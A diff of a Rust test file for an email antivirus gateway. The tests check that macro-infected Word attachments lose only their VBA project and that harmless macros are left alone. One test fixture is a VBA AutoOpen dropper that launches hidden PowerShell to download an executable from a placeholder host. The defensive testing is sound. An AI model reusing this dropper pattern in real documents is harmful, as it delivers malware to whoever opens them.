@@ -252,20 +252,11 @@ fn unzip(data: &[u8]) -> Vec<(String, Vec<u8>)> {
         .collect()
 }
 
-#[test]
-fn an_office_document_infected_in_its_macros_loses_only_its_vba_project() {
-    let dir = test_dir();
-    let defs = dir.path().join("own-defs");
-    write_defs(&defs, "Test.Macro.Marker", b"MacroMarker-7f3a");
-    let sink = Sink::start(dir.path(), &[]);
-    let av = format!("heuristic_level = \"off\"\ndefs_dir = \"{}\"", defs.display());
-    let gw = Gateway::start(dir.path(), "", &config(sink.port, &av, ""));
-    let s = Setup { _dir: dir, sink, gw };
-    s.send(&Mail::new("macro document").attach("report.docm", &corpus::docm(b"Sub AutoOpen() MacroMarker-7f3a")));
-
-    let got = s.delivered("macro document");
-    assert!(header(&got, "X-MXGuard-Virus").is_some_and(|h| h.contains("Test.Macro.Marker")));
-    let (_, doc) = files(&got).into_iter().find(|(n, _)| n == "report.docm").expect("the document is kept");
+/// The delivered `report.docm` of `got` has lost its VBA project and
+/// nothing else, and opens as a plain Word document.
+fn assert_macros_removed(got: &[u8], detection: &str) {
+    assert!(header(got, "X-MXGuard-Virus").is_some_and(|h| h.contains(detection)), "{detection}");
+    let (_, doc) = files(got).into_iter().find(|(n, _)| n == "report.docm").expect("the document is kept");
     let members = unzip(&doc);
     let names: Vec<&str> = members.iter().map(|(n, _)| n.as_str()).collect();
     assert!(!names.iter().any(|n| n.to_lowercase().contains("vba")), "the VBA project is gone: {names:?}");
@@ -279,6 +270,29 @@ fn an_office_document_infected_in_its_macros_loses_only_its_vba_project() {
     assert!(!part("word/_rels/document.xml.rels").contains("vbaProject"));
     assert!(part("word/document.xml").contains("quarterly report text"), "the content is kept");
     assert!(part("_rels/.rels").contains("word/document.xml"));
+}
+
+#[test]
+fn an_office_document_infected_in_its_macros_loses_only_its_vba_project() {
+    let dir = test_dir();
+    let defs = dir.path().join("own-defs");
+    write_defs(&defs, "Test.Macro.Marker", b"MacroMarker-7f3a");
+    let sink = Sink::start(dir.path(), &[]);
+    let av = format!("heuristic_level = \"medium\"\ndefs_dir = \"{}\"", defs.display());
+    let gw = Gateway::start(dir.path(), "", &config(sink.port, &av, ""));
+    let s = Setup { _dir: dir, sink, gw };
+    let by_signature =
+        corpus::docm(b"Attribute VB_Name = \"ThisDocument\"\r\nSub Report()\r\n' MacroMarker-7f3a\r\nEnd Sub\r\n");
+    s.send(&Mail::new("macro signature").attach("report.docm", &by_signature));
+    let dropper = b"Sub AutoOpen()\r\n    Shell \"powershell -w hidden -c iwr http://x.test/a.exe\"\r\nEnd Sub\r\n";
+    s.send(&Mail::new("macro heuristics").attach("report.docm", &corpus::docm(dropper)));
+    s.send(&Mail::new("harmless macro").attach("report.docm", &corpus::docm(b"Sub Total()\r\nEnd Sub\r\n")));
+
+    assert_macros_removed(&s.delivered("macro signature"), "Test.Macro.Marker");
+    assert_macros_removed(&s.delivered("macro heuristics"), "Heuristic.MacroAutoRun");
+    let harmless = s.delivered("harmless macro");
+    assert!(header(&harmless, "X-MXGuard-Virus").is_none());
+    assert!(delivered_names(&harmless).contains(&"report.docm/word/vbaproject.bin".to_string()), "left alone");
 }
 
 #[test]
